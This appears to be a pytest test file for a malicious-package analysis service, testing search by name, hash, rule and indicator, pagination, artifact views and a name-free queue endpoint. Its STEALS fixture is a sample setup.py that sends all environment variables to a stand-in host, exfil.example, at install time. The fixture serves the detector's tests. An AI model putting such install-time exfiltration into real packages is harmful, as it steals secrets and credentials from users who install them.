"""What was seen is found again; figures of the queue name nobody's packages."""

from __future__ import annotations

import hashlib

import pytest

from packamal.server.accounts.models import Scope, User
from packamal.server.analyses.models import Analysis
from packamal.server.pipeline.run import run_next

pytestmark = [pytest.mark.django_db, pytest.mark.allow_hosts(["127.0.0.1"])]
STEALS = """
import os, urllib.request
from setuptools import setup
urllib.request.urlopen("https://exfil.example/", data=repr(dict(os.environ)).encode())
setup()
"""


@pytest.fixture
def judged(index, caller):
    caller.post("/analyses", {"purl": index.add("greedy", "1.0", STEALS)})
    caller.post("/analyses", {"purl": index.add("small", "1.0")})
    caller.post("/analyses", {"purl": index.add("small", "2.0")})
    while run_next("w"):
        pass
    Analysis.objects.update(owner=User.objects.create(username="other"))
    return index


def found(caller, query):
    answer = caller.get(f"/search?{query}")
    assert answer.status_code == 200, answer.content
    return [item["purl"] for item in answer.json()["items"]]


def test_an_answer_is_found_by_all_that_is_known_of_it(judged, caller_with):
    caller, greedy = caller_with(Scope.READ), ["pkg:pypi/greedy@1.0"]
    digest = hashlib.sha256(judged.files["greedy-1.0.tar.gz"]).hexdigest()
    rule = Analysis.objects.get(name="greedy").rules.first().rule
    assert found(caller, "name=greedy") == greedy
    assert found(caller, "name=greedy&ecosystem=npm") == []
    assert found(caller, f"sha256={digest.upper()}") == greedy
    assert found(caller, f"rule={rule}") == greedy
    for spelling in ("https://exfil.example/", "hxxps://exfil[.]example/"):
        assert found(caller, f"indicator={spelling}") == greedy, list(
            Analysis.objects.get(name="greedy").indicators.values_list("kind", "value")
        )
    assert found(caller, "name=small&level=malicious") == []


def test_a_search_goes_on_page_by_page(judged, caller):
    first = caller.get("/search?name=small&limit=1").json()
    second = caller.get(f"/search?name=small&limit=1&cursor={first['next']}").json()
    assert [first["items"][0]["version"], second["items"][0]["version"], second["next"]] == ["2.0", "1.0", None]


@pytest.mark.parametrize(
    "query", ["", "level=clean", "sha256=x", "name=x&limit=0", "name=x&cursor=y", "rule=" + "x" * 201]
)
def test_a_search_for_nothing_is_refused(caller, query):
    assert caller.get(f"/search?{query}").status_code == 422


def test_a_package_shows_its_versions_with_their_verdicts(judged, caller):
    body = caller.get("/packages/pypi/small").json()
    assert [(one["version"], one["level"]) for one in body["versions"]] == [("2.0", "clean"), ("1.0", "clean")]
    assert caller.get("/packages/npm/%40scope/none").status_code == 404


def test_an_artifact_shows_its_answers_and_the_files_that_speak(judged, caller):
    digest = hashlib.sha256(judged.files["greedy-1.0.tar.gz"]).hexdigest()
    body = caller.get(f"/artifacts/{digest}").json()
    assert (body["filename"], [one["purl"] for one in body["analyses"]]) == (
        "greedy-1.0.tar.gz",
        ["pkg:pypi/greedy@1.0"],
    )
    files = caller.get(f"/artifacts/{digest}/files").json()["items"]
    assert [file["path"] for file in files if file["rules"]][-1:] == ["greedy-1.0/setup.py"]
    assert caller.get(f"/artifacts/{'0' * 64}").status_code == 404
    assert caller.get("/artifacts/x").status_code == 422


def test_rules_are_listed_and_shown(caller):
    rules = caller.get("/rules").json()
    assert len(rules["items"]) > 50
    one = rules["items"][0]
    assert caller.get(f"/rules/{one['id']}").json() == one
    assert caller.get("/rules/no/such").status_code == 404


def test_the_queue_is_figures_alone(index, caller):
    caller.post("/analyses", {"purl": index.add("secret-name", "1.0"), "lane": "interactive"})
    answer = caller.get("/queue")
    assert "secret-name" not in answer.content.decode()
    lanes = {lane["lane"]: (lane["waiting"], lane["running"]) for lane in answer.json()["lanes"]}
    assert lanes == {"interactive": (1, 0), "bulk": (0, 0), "feed": (0, 0)}
